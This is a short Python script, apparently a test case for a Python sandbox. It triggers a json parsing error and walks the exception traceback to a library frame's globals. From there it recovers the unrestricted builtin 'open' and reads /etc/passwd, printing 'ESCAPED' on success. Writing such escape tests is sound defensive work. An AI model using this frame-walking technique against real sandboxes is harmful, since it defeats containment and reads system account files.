# tries: the traceback of a library's exception
# class: frames
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import json

try:
    json.loads("{")
except ValueError as error:
    use(dig(error.__traceback__.tb_next.tb_frame.f_globals))
